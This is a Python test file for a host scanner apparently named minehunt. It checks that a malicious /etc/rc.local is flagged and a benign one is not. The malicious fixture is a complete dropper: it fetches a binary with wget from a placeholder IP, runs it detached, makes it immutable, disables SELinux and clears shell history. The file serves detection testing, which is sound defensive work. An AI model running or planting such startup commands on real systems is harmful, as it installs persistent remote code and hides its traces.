"""A start-up file whose lines are each unremarkable but together make a dropper is reported
by ``scan host`` through the script verdict (MH-SCRIPT-001)."""

from __future__ import annotations

from pathlib import Path

from minehunt.model import Severity
from tests.conftest import run_cli

RC_LOCAL = """#!/bin/sh
cd /var/tmp
[ -x .cache/upd ] || wget -q http://198.51.100.70/u -O .cache/upd
chmod +x .cache/upd
setsid .cache/upd >/dev/null 2>&1 &
chattr +i /var/tmp/.cache/upd
setenforce 0
history -c
exit 0
"""

ORDINARY = """#!/bin/sh
# start the local exporter
/usr/local/bin/node_exporter --web.listen-address=127.0.0.1:9100 &
exit 0
"""


def _scan(root: Path) -> dict[str, tuple[Severity, set[str]]]:
    r = run_cli("scan", "host", "--root", str(root), "--format", "json", "--min-severity", "info")
    assert r.code in (0, 1), r.stderr
    return {
        f.target.path or "": (f.severity, {e.check_id for e in f.evidence})
        for f in r.report.findings
    }


def test_rc_local_dropper_gets_the_script_verdict(tmp_path: Path) -> None:
    rc = tmp_path / "etc" / "rc.local"
    rc.parent.mkdir(parents=True)
    rc.write_text(RC_LOCAL)
    found = _scan(tmp_path)
    sev, ids = found["/etc/rc.local"]
    assert "MH-SCRIPT-001" in ids
    assert sev >= Severity.MEDIUM


def test_ordinary_rc_local_has_no_script_verdict(tmp_path: Path) -> None:
    rc = tmp_path / "etc" / "rc.local"
    rc.parent.mkdir(parents=True)
    rc.write_text(ORDINARY)
    found = _scan(tmp_path)
    assert all("MH-SCRIPT-001" not in ids for _, ids in found.values())
